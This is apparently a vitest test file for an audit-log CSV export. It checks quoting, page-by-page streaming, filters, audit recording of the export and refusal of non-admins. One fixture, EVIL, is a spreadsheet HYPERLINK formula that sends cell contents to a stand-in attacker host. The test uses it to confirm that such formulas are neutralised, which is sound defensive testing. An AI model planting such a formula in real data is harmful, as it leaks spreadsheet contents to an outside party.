/**
 * The audit CSV export on both dialects: BOM, header and one line per event (more than one page, read a
 * page at a time), RFC 4180 quoting, a formula-shaped actor name neutralised, the filters applied, the
 * export recorded as `audit.export`, and a non-admin refused before anything is written.
 */
import { testDialects } from '@peerbridge/testing';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ServiceError } from '../errors';
import { seedEvent } from '../test-support/audit-events';
import { type MigratedDatabase, openMigratedDatabase } from '../test-support/migrated-database';
import { aSmallOrganization, type SmallOrganization } from '../test-support/small-organization';
import { AUDIT_PAGE_MAX } from './audit-log';
import { AUDIT_CSV_HEADER, exportAuditCsv } from './export-audit-csv';

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

async function collect(chunks: AsyncGenerator<string>): Promise<string[]> {
  const out: string[] = [];
  for await (const c of chunks) out.push(c);
  return out;
}

describe.each(testDialects())('the audit CSV export on %s', (dialect) => {
  let mdb: MigratedDatabase;
  let org: SmallOrganization;
  let workerId: string;
  const total = AUDIT_PAGE_MAX * 2 + 17;

  beforeAll(async () => {
    mdb = await openMigratedDatabase(dialect);
    org = await aSmallOrganization(mdb.handle.db, { workers: 2 });
    workerId = org.workerIds[0] as string;
    for (let i = 0; i < total; i++) {
      await seedEvent(mdb.handle.db, 'org-1', {
        actorUserId: 'u-sup',
        actorName: i === 0 ? EVIL : 'Věra "V" Nováková, supervisor',
        action: i % 2 === 0 ? 'worker_record.view' : 'session_notes.read',
        entityType: 'peer_worker',
        entityId: i % 5 === 0 ? (org.workerIds[1] as string) : workerId,
        at: `2026-11-${String(1 + (i % 20)).padStart(2, '0')}T10:00:00.000Z`,
      });
    }
  });
  afterAll(async () => {
    await mdb.close();
  });

  it('streams BOM, header and every event page by page, quoted and with formulas neutralised', async () => {
    const exported = await exportAuditCsv(mdb.handle.db, org.admin, {});
    const chunks = await collect(exported.chunks);
    // The header chunk and then one chunk per page of events: never the whole log in one piece.
    expect(chunks.length).toBeGreaterThanOrEqual(1 + 3);
    const text = chunks.join('');
    expect(text.startsWith('\uFEFFat,seq,action,actor_name,')).toBe(true);
    const records = parse(text.slice(1), { relax_column_count: false }) as string[][];
    expect(records[0]).toEqual([...AUDIT_CSV_HEADER]);
    // Every seeded event plus the export's own `audit.export`, which is written before the first page.
    expect(records.length - 1).toBe(total + 1);
    expect(records[1]?.[2]).toBe('audit.export');
    const names = records.slice(1).map((r) => r[3]);
    expect(names).toContain(`'${EVIL}`);
    expect(names.some((n) => n?.startsWith('='))).toBe(false);
    expect(names).toContain('Věra "V" Nováková, supervisor');
    expect(text).toContain('"Věra ""V"" Nováková, supervisor"');
    expect(text.split('\r\n').length).toBe(records.length + 1);
    // PSW names resolved for the admin.
    expect(
      records
        .slice(1)
        .filter((r) => r[7] === workerId)
        .every((r) => r[6] === 'Peer 1'),
    ).toBe(true);
    // No row repeated.
    expect(new Set(records.slice(1).map((r) => r[1])).size).toBe(total + 1);
  });

  it('applies the filters and records the export with them, about the PSW when filtered to one', async () => {
    const exported = await exportAuditCsv(mdb.handle.db, org.admin, {
      workerId,
      actions: ['session_notes.read'],
      from: '2026-11-03',
      to: '2026-11-04',
    });
    const records = parse((await collect(exported.chunks)).join('').slice(1)) as string[][];
    const rows = records.slice(1);
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.every((r) => r[2] === 'session_notes.read' && r[7] === workerId)).toBe(true);
    expect(rows.every((r) => r[0]! >= '2026-11-03' && r[0]! < '2026-11-05')).toBe(true);
    const [event] = await mdb.handle.db
      .selectFrom('audit_event')
      .selectAll()
      .where('action', '=', 'audit.export')
      .orderBy('seq', 'desc')
      .limit(1)
      .execute();
    expect(event?.actor_user_id).toBe('u-admin');
    expect(event?.entity_type).toBe('peer_worker');
    expect(event?.entity_id).toBe(workerId);
    expect(JSON.parse(event?.details ?? '{}')).toEqual({
      format: 'csv',
      filters: { workerId, actions: ['session_notes.read'], from: '2026-11-03', to: '2026-11-04' },
    });
  });

  it('refuses a non-admin and a PSW of no organisation of theirs, writing no export event', async () => {
    const exports = async () =>
      (
        await mdb.handle.db
          .selectFrom('audit_event')
          .select('id')
          .where('action', '=', 'audit.export')
          .execute()
      ).length;
    const before = await exports();
    await expect(exportAuditCsv(mdb.handle.db, org.supervisor, {})).rejects.toThrow(ServiceError);
    await expect(exportAuditCsv(mdb.handle.db, org.admin, { workerId: 'w-nobody' })).rejects.toMatchObject({
      code: 'not_found',
    });
    await expect(exportAuditCsv(mdb.handle.db, org.admin, { from: 'yesterday' })).rejects.toMatchObject({
      code: 'invalid_input',
    });
    expect(await exports()).toBe(before);
  });
});
